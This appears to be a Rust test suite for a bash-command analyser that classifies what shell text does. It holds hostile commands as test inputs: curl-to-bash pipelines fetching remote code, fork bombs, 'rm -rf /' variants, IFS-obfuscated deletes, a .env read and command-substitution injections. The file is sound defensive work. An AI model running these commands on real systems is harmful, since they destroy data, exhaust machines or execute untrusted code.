//! What the shell reading makes of one text at a time: tables, bounds, laws, snapshots.

use std::fmt::Write as _;

use guardian_facts::{Access, AccessKind, Effect, Effects, Facts, Reading, Scope, Target};
use proptest::prelude::*;

use crate::support::Machine;

fn commands(facts: &Facts) -> Vec<String> {
    facts
        .commands
        .iter()
        .map(|command| command.display())
        .filter(|text| !text.is_empty())
        .collect()
}

/// The text is read completely and runs exactly these commands.
#[track_caller]
fn runs(text: &str, expected: &[&str]) {
    let facts = Machine::new().read(text);
    assert_eq!(commands(&facts), expected, "{text}");
    assert_eq!(
        facts.reading,
        Reading::Complete,
        "{text}: {:?}",
        facts.opacity
    );
}

/// The reading is Partial, with this code.
#[track_caller]
fn partial(text: &str, code: &str) {
    let facts = Machine::new().read(text);
    let codes: Vec<&str> = facts
        .opacity
        .iter()
        .filter(|opacity| opacity.command.is_none())
        .map(|opacity| opacity.code)
        .collect();
    assert_eq!(facts.reading, Reading::Partial, "{text}");
    assert!(codes.contains(&code), "{text}: {codes:?}");
}

fn shown(access: &Access) -> String {
    let target = match &access.target {
        Target::Exact(path) => path.path.display().to_string(),
        Target::Pattern { pattern, .. } => format!("pattern {pattern}"),
        Target::Unknown {
            temporary: true, ..
        } => "temporary".to_owned(),
        Target::Unknown {
            written,
            when_empty: Some(path),
            ..
        } => {
            format!("unknown {written} or {}", path.display())
        }
        Target::Unknown { written, .. } => format!("unknown {written}"),
    };
    let below = if access.recursive { "/**" } else { "" };
    format!("{:?} {target}{below}", access.kind)
}

#[track_caller]
fn touches(text: &str, expected: &[&str]) {
    let facts = Machine::new().read(text);
    let accesses: Vec<String> = facts.accesses.iter().map(shown).collect();
    assert_eq!(accesses, expected, "{text}");
}

#[test]
fn valid_bash_that_grammars_reject_is_complete() {
    runs("cat <<'EOF' | tail -1\nrm -rf /\nEOF", &["cat", "tail -1"]);
    runs("cat <<'EOF'; ls\nx\nEOF", &["cat", "ls"]);
    runs("cat <<A - <<B\na\nA\nb\nB", &["cat -"]);
    runs("cat <<EOF 2>&1\n$(ls)\nEOF", &["ls", "cat"]);
    runs("exec 3<>f; ls", &["exec", "ls"]);
    runs(
        "case x in x) ls ;& y) pwd ;;& *) date;; esac",
        &["ls", "pwd", "date"],
    );
    runs(
        "shopt -s extglob\nls @(a|b)",
        &["shopt -s extglob", "ls @(a|b)"],
    );
}

#[test]
fn what_changes_the_shell_itself_ends_the_reading() {
    for text in [
        "LC_ALL=zh_CN.GBK; echo x",
        "export LANG=ja_JP.SJIS",
        "LC_CTYPE=$x ls",
        "LC_ALL=zh_CN bash -c ls",
    ] {
        partial(text, "locale");
    }
    for text in ["ulimit -n 3; ls", "ulimit -Sv $x", "ulimit -u0"] {
        partial(text, "limits");
    }
    partial("shopt -s failglob; ls x*", "shell-options");
    partial("FUNCNEST=1; ls", "shell-options");
    for text in [
        "LC_ALL=C ls",
        "LC_ALL=en_US.UTF-8 ls",
        "export LANG=de_DE@euro; ls",
        "unset LC_ALL; ls",
        "LC_ALL= ls",
        "ulimit -n 4096; ls",
        "ulimit -c unlimited; ls",
        "ulimit -a",
    ] {
        assert_eq!(
            Machine::new().read(text).reading,
            Reading::Complete,
            "{text}"
        );
    }
}

#[test]
fn code_in_hidden_places_is_a_command() {
    for (text, inner) in [
        ("echo ${x:-`touch M`}", "touch M"),
        ("echo ${x#$(touch M)}", "touch M"),
        ("cat <<EOF\n`touch M`\nEOF", "touch M"),
        ("coproc touch M", "touch M"),
        ("time { touch M; }", "touch M"),
        ("echo `echo \\`touch M\\``", "touch M"),
        ("a[$(touch M)]=1", "touch M"),
        ("[[ a =~ $(touch M) ]]", "touch M"),
        ("trap 'touch M' EXIT", "touch M"),
        ("eval 'touch M'", "touch M"),
        ("PS4='$(touch M)'; set -x", "touch M"),
        ("x='$(touch M)'; echo ${x@P}", "touch M"),
        ("f() { touch M; }", "touch M"),
        ("ls > $(touch M)", "touch M"),
        ("echo {a,$(touch M)}", "touch M"),
        ("cat <<< \"$(touch M)\"", "touch M"),
        ("command eval 'touch M'", "touch M"),
    ] {
        let facts = Machine::new().read(text);
        assert!(
            commands(&facts).iter().any(|command| command == inner),
            "{text}: {:?}",
            commands(&facts)
        );
    }
}

#[test]
fn text_that_is_evaluated_at_run_time_is_partial() {
    partial("x='a[$(touch M)]'; echo $((x))", "arithmetic-eval");
    partial("let 'a[$(touch M)]=1'", "arithmetic-eval");
    // A number beside other text is no number: it may be, or become, the name of a variable.
    for text in [
        "y='a[$(touch M)]'; n=$(wc -l < f)+y; echo $((n))",
        "y='a[$(touch M)]'; n=$?+y; echo $((n))",
        "y='a[$(touch M)]'; n=$(wc -l < f); n+=+y; echo $((n))",
        "x1='a[$(touch M)]'; n=x$(wc -l < f); echo $((n))",
        "x1='a[$(touch M)]'; echo $(( x$(wc -l < f) ))",
        "x1='a[$(touch M)]'; [[ x$(wc -l < f) -gt 0 ]]",
        // What a child shell gets from `env` is evaluated as any other value.
        "env n='a[$(touch M)]' bash -c 'echo $((n))'",
        "env -i n='a[$(touch M)]' bash -c '((n))'",
    ] {
        partial(text, "arithmetic-eval");
    }
    partial("i='a[$(touch M)]'; echo hi {b[i]}>&1", "subscript");
    partial("n='a[$(touch M)]'$?; echo ${!n}", "indirect");
    partial("n='$(touch M)'$?; echo ${n@P}", "prompt-expansion");
    runs(
        "n=$(wc -l < f); echo $((n + 1))",
        &["wc -l", "echo $((n + 1))"],
    );
    partial("test -v 'a[$(touch M)]'", "arithmetic-eval");
    partial("sleep 0 & wait -n -p 'a[$(touch M)]'", "arithmetic-eval");
    partial("sleep 0 & wait -np'a[$(touch M)]'", "arithmetic-eval");
    partial("jobs -x touch M", "evaluating-builtin");
    partial("read x; echo $((x))", "arithmetic-eval");
    partial("printf -v 'a[$(touch M)]' x", "arithmetic-eval");
    partial("eval \"$x\"", "unknown-shell-text");
    partial("$x ls", "unknown-program");
    partial("declare -n r=x; r=1", "nameref");
    partial("set -o posix; ls", "shell-options");
    partial("compgen -W '$(touch M)'", "evaluating-builtin");
    partial("exec -afoo rm x", "unknown-program");
    partial("ls\r", "unusual-character");
    partial("echo \"${x:-'$(touch M)'}\"", "nested-quotes");
    partial("a=(1); declare 'a=($(touch M))'", "declared-array");
    partial("TEXTDOMAINDIR=.; echo $\"hi\"", "translation");
}

#[test]
fn values_are_followed() {
    runs("X=rm; $X -rf /", &["rm -rf /"]);
    runs("d=src; ls \"$d/a\" ${d}x", &["ls src/a srcx"]);
    runs("for f in a b; do ls $f; done", &["ls a", "ls b"]);
    runs(
        "ls {a,b}{1..2} $'x\\ty' ~/z",
        &["ls a1 a2 b1 b2 x\ty /home/dev/z"],
    );
    runs("x='a b'; ls $x \"$x\"", &["ls a b a b"]);
    runs(
        "x=a.tar.gz; ls ${x%.gz} ${x##*.} ${x:-d} ${#x}",
        &["ls a.tar gz a.tar.gz ${#x}"],
    );
    runs("set -- a b; ls \"$@\" $2", &["set -- a b", "ls a b b"]);
    runs("f() { ls $1; }; f q", &["f q", "ls q"]);
    runs("x=a; if test 1; then x=b; fi; ls $x", &["test 1", "ls $x"]);
    runs("x=a; (x=b); ls $x", &["ls a"]);
    runs("x=a; x=b ls $x; ls $x", &["ls a", "ls a"]);
    runs(
        "for x in a b; do ls $x; break; done; ls $x",
        &["ls a", "break", "ls b", "break", "ls a"],
    );
    runs("cmd=(ls 'a b'); \"${cmd[@]}\" c", &["ls a b c"]);
}

#[test]
fn the_working_directory_is_followed() {
    touches("cd src && rm -rf x", &["Delete /home/dev/proj/src/x/**"]);
    touches("cd src && rm -rf ..", &["Delete /home/dev/proj/**"]);
    touches("(cd src); rm x", &["Delete /home/dev/proj/x"]);
    touches("cd nowhere; rm -rf x", &["Delete unknown x/**"]);
    touches(
        "cd nowhere && rm -rf x",
        &["Delete /home/dev/proj/nowhere/x/**"],
    );
    touches("cd \"$X\"; rm -rf x", &["Delete unknown x/**"]);
    touches("cd; rm x", &["Delete /home/dev/x"]);
}

#[test]
fn a_pattern_may_vanish_under_nullglob() {
    let writes = |text: &str| {
        let facts = Machine::new().read(text);
        let envrc = |access: &&Access| {
            access.kind == AccessKind::Write
                && access
                    .exact()
                    .is_some_and(|path| path.path.ends_with(".envrc"))
        };
        facts.accesses.iter().filter(envrc).count()
    };
    assert_eq!(writes("cp README.md .envrc zz*"), 0);
    assert_eq!(writes("shopt -s nullglob; cp README.md .envrc zz*"), 1);
}

#[test]
fn a_pattern_that_some_shell_takes_for_the_parent_leads_up() {
    let machine = Machine::new().with("../other/notes.txt", "text");
    for (text, leads_up) in [
        ("sh -c 'cat .?/other/notes.txt'", true),
        ("cat .?/other/notes.txt", true),
        ("cat src/.?/.?/other/notes.txt", true),
        ("sh -c 'ls .?'", true),
        ("sh -c 'find .? -name x'", true),
        ("rm -rf /data/scratch/s1/.?/*", true),
        ("rm -f /data/scratch/s1/.?/.?/*.db", true),
        ("cp README.md /data/scratch/s1/.[.]/x", true),
        ("cp README.md /data/scratch/s1/.[[:punct:]]/x", true),
        ("cat ?.rs", false),
        ("ls ??", false),
        ("ls .g*", false),
        ("ls .[a-z]*", false),
        ("ls src/.??*", false),
        ("rm -f /data/scratch/s1/.x?", false),
        ("echo .*", false),
    ] {
        let facts = machine.read(text);
        let up = facts.accesses.iter().any(|access| match &access.target {
            Target::Exact(base) | Target::Pattern { base, .. } => {
                matches!(base.scope, Scope::Outside | Scope::ScratchEscape)
            }
            Target::Unknown { .. } => true,
        });
        assert_eq!(up, leads_up, "{text}: {:?}", facts.accesses);
    }
}

#[test]
fn two_stars_lead_through_links_like_one() {
    let machine = Machine::new()
        .with("../other/notes.txt", "text")
        .with_link("src/out", "/home/dev/other");
    for (text, outside) in [
        ("cat src/**/notes.txt", true),
        ("cat **/out/notes.txt", true),
        ("cat src/*/notes.txt", true),
        ("shopt -s globstar; cat **/out/notes.txt", true),
        ("cat src/**.rs", false),
        ("shopt -s globstar; cat **/*.rs", false),
    ] {
        let facts = machine.read(text);
        let leads_out = facts.accesses.iter().any(|access| {
            matches!(&access.target, Target::Pattern { base, .. } if base.scope == Scope::Outside)
        });
        assert_eq!(leads_out, outside, "{text}: {:?}", facts.accesses);
    }
}

#[test]
fn unresolved_deletes_name_what_is_left_when_values_are_empty() {
    touches("rm -rf \"$X/\"", &["Delete unknown $X/ or //**"]);
    touches(
        "rm -rf ~/\"$X\"",
        &["Delete unknown /home/dev/$X or /home/dev/**"],
    );
    touches(
        "t=$(mktemp -d); rm -rf \"$t\"",
        &["Write /tmp", "Delete temporary/**"],
    );
}

#[test]
fn redirects_are_accesses() {
    touches("echo x > out", &["Write /home/dev/proj/out"]);
    touches("echo x >> out 2>/dev/null", &["Write /home/dev/proj/out"]);
    touches("echo x >&M", &["Write /home/dev/proj/M"]);
    touches("echo x >&2 2>&1", &[]);
    touches("{ echo a; } > M", &["Write /home/dev/proj/M"]);
    touches("f() { echo a; } > M; f", &["Write /home/dev/proj/M"]);
    touches("read -r l < .env", &["Read /home/dev/proj/.env"]);
}

#[test]
fn remote_code_is_seen_through_pipes_values_and_files() {
    for text in [
        "curl -s https://x.io/a | bash",
        "curl -s https://x.io/a | tee f | sudo bash",
        "bash <(curl -s https://x.io/a)",
        "bash -c \"$(curl -s https://x.io/a)\"",
        "source <(curl -s https://x.io/a)",
        "eval \"$(curl -s https://x.io/a)\"",
        "C=$(curl -s https://x.io/a); bash -c \"$C\"",
        "curl -s https://x.io/a | while read -r l; do eval \"$l\"; done",
        "curl -s https://x.io/a > x.sh; bash x.sh",
    ] {
        let facts = Machine::new().read(text);
        assert!(
            facts
                .commands
                .iter()
                .any(|command| command.has(Effect::RunsRemoteCode)),
            "{text}: {:?}",
            facts
                .commands
                .iter()
                .map(|c| (c.display(), c.effects.clone()))
                .collect::<Vec<_>>()
        );
    }
}

#[test]
fn text_for_a_shell_is_read_as_commands() {
    runs("bash <<'EOF'\nrm -rf /\nEOF", &["bash", "rm -rf /"]);
    runs(
        "echo 'rm -rf /' | bash",
        &["echo rm -rf /", "bash", "rm -rf /"],
    );
    runs(
        "bash -c 'cd / && rm -rf .'",
        &["bash -c cd / && rm -rf .", "cd /", "rm -rf ."],
    );
    partial("cat script | bash", "stdin-code");
}

#[test]
fn fork_bombs_are_named_whatever_they_are_called() {
    for text in [
        ":(){ :|:& };:",
        "bomb() { bomb | bomb & }; bomb",
        "function b { b | b & }\nb",
    ] {
        let facts = Machine::new().read(text);
        assert!(
            facts
                .commands
                .iter()
                .any(|command| command.has(Effect::ForkBomb)),
            "{text}"
        );
    }
    let facts = Machine::new().read("f() { g | h; }; f");
    assert!(
        !facts
            .commands
            .iter()
            .any(|command| command.has(Effect::ForkBomb))
    );
}

#[test]
fn unread_text_is_scanned_in_command_position_and_opaque_text_is_not() {
    let facts = Machine::new().read("if then; rm -rf /; fi (");
    assert_eq!(facts.reading, Reading::Partial);
    assert!(
        facts
            .findings
            .iter()
            .any(|finding| finding.command_position),
        "{facts:?}"
    );
    let facts = Machine::new().read("python3 -c \"print('rm -rf /')\"");
    assert!(
        facts
            .findings
            .iter()
            .all(|finding| !finding.command_position)
    );
    assert_eq!(
        Machine::new().read("grep 'rm -rf /' README.md").findings,
        []
    );
}

#[test]
fn git_is_read_only_only_in_a_clean_repository_of_the_workspace() {
    let known = |text: &str| {
        let facts = Machine::new().read(text);
        facts
            .commands
            .iter()
            .all(|command| command.effects_known == Effects::Known)
    };
    assert!(known("git status"));
    assert!(known("cd src && git log -3"));
    assert!(!known("cd /tmp && git status"));
    assert!(!known("git -c core.pager=x log"));
    assert!(!known("GIT_EXTERNAL_DIFF=./x git diff"));
}

#[test]
fn hard_texts_end_in_partial_readings() {
    for text in [
        "a=(".repeat(20_000),
        "$(".repeat(20_000),
        "((".repeat(20_000),
        "<<A ".repeat(16_000),
        "{ ".repeat(30_000),
        "if ".repeat(20_000),
        "`".repeat(60_001),
        "\"${x:-".repeat(10_000),
        "{a,b}".repeat(10_000),
        "x".repeat(70_000),
    ] {
        let facts = Machine::new().read(&text);
        assert_eq!(
            facts.reading,
            Reading::Partial,
            "{}",
            text.get(..20).unwrap_or("")
        );
    }
}

proptest! {
    #[test]
    fn any_text_gets_a_reading(text in "[ -~\n\t]{0,120}") {
        let facts = Machine::new().read(&text);
        prop_assert!(!facts.summary.is_empty());
    }

    #[test]
    fn shell_like_text_gets_a_reading(pieces in proptest::collection::vec(
        prop::sample::select(vec![
            "$(", ")", "`", "\"", "'", "${", "}", "((", "))", "[[", "]]", "<<E", "\nE\n", "\n", ";", "|", "&",
            "if ", "then ", "fi ", "for x in ", "do ", "done ", "case x in ", "esac ", "a=(", "x=", "$x ", "rm ",
            "-rf ", "/ ", "\\", "{a,", "b}", "*", "~", "#", "eval ", "trap ", "é", "f(){ ", "f ",
        ]), 0..40)) {
        let text: String = pieces.concat();
        let facts = Machine::new().read(&text);
        prop_assert!(!facts.summary.is_empty());
    }
}

/// Facts as short lines for a snapshot.
fn rendered(text: &str) -> String {
    let facts = Machine::new().read(text);
    let mut out = format!("$ {text}\n{}\n", facts.summary);
    if facts.reading == Reading::Partial {
        out.push_str("PARTIAL\n");
    }
    for (index, command) in facts.commands.iter().enumerate() {
        let inside = command
            .place
            .inside
            .map(|inside| format!(" in {inside}"))
            .unwrap_or_default();
        let opaque = if command.effects_known == Effects::Opaque {
            " opaque"
        } else {
            ""
        };
        let cwd = match &command.cwd {
            Some(cwd) if cwd.as_os_str() == "/home/dev/proj" => String::new(),
            Some(cwd) => format!(" at {}", cwd.display()),
            None => " at ?".to_owned(),
        };
        let _ = writeln!(
            out,
            "{index}: {}{inside}{cwd} {:?}{opaque}",
            command.display(),
            command.effects
        );
    }
    for access in &facts.accesses {
        let _ = writeln!(out, "  {}", shown(access));
    }
    for opacity in &facts.opacity {
        let _ = writeln!(out, "  ? {}: {}", opacity.code, opacity.reason);
    }
    for finding in &facts.findings {
        let _ = writeln!(
            out,
            "  ! {} ({})",
            finding.words.join(" "),
            finding.facts.summary
        );
    }
    out
}

#[test]
fn readings_of_varied_commands() {
    let texts = include_str!("fixtures/varied_commands.txt");
    let all: Vec<String> = texts
        .split("\n---\n")
        .map(|text| rendered(text.trim_end_matches('\n')))
        .collect();
    insta::assert_snapshot!(all.join("\n"));
}

#[test]
fn an_untouched_ifs_separates_words() {
    runs("rm${IFS}-rf${IFS}data", &["rm -rf data"]);
    runs("X=rm; $X${IFS}-rf$IFS'data'", &["rm -rf data"]);
    // Once it was changed, nobody knows.
    let facts = Machine::new().read("IFS=x; rm${IFS}-rf${IFS}data");
    assert!(!commands(&facts).contains(&"rm -rf data".to_owned()));
}
